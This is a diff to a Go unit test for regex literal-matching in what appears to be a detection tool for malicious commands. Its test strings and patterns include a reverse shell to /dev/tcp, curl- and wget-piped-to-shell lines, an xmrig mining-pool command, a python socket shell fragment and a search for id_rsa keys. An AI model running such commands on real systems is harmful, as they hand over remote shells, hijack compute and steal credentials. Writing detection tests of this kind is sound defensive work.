@@ -28,6 +28,7 @@ func TestRequiredLiteralsRejectOnlyWhatCannotMatch(t *testing.T) {
 		"", "xmrig -o stratum+tcp://pool:3333", "XMRIG -O STRATUM+SSL://POOL:443", "curl -s https://x | sh",
 		"wget -qO- http://x | bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "go build ./...",
 		"python3 -c import socket,subprocess", "PYTHON3 -C IMPORT SOCKET", "find / -name id_rsa", "ſtratum+tcp://", "\u212aWORKER",
+		"ip addr", "ip\taddr", "/sbin/ip  a", "pipe x", "sudo ip route", "x-ip a",
 	}
 	for _, pattern := range []string{
 		`(?i)stratum[0-9]*\+(tcp|ssl|tls|udp)://`,
@@ -39,6 +40,8 @@ func TestRequiredLiteralsRejectOnlyWhatCannotMatch(t *testing.T) {
 		`^(python[0-9.]*|perl)$`,
 		`a{2,}b|c+d`,
 		`x?y*`,
+		`^(\S*/)?ip\s+(-\S+\s+)*(a|addr|route)(\s|$)`,
+		`[-x]ip\s`,
 	} {
 		re := regexp.MustCompile(pattern)
 		for _, s := range strs {
@@ -50,6 +53,7 @@ func TestRequiredLiteralsRejectOnlyWhatCannotMatch(t *testing.T) {
 	assert.Nil(t, requiredLiterals(`x?y*`), "nothing is required")
 	assert.True(t, literalsMatch(`(?i)kworker`, "\u212aworker"), "K, the Kelvin sign, folds to k: a string that is not ASCII is left to the expression")
 	assert.False(t, literalsMatch(`(curl|wget)\s.*\|\s*(ba|da)?sh`, "go build ./..."))
+	assert.False(t, literalsMatch(`^ip\s+a`, "pipe"), `"ip" then a space is required, not "ip"`)
 	assert.True(t, literalsMatch(`(curl|wget)\s.*\|\s*(ba|da)?sh`, "curl x | sh"))
 	assert.False(t, literalsMatch(`(?i)stratum\+tcp`, "go test ./..."))
 	assert.True(t, literalsMatch(`(?i)stratum\+tcp`, "xmrig STRATUM+TCP://"))
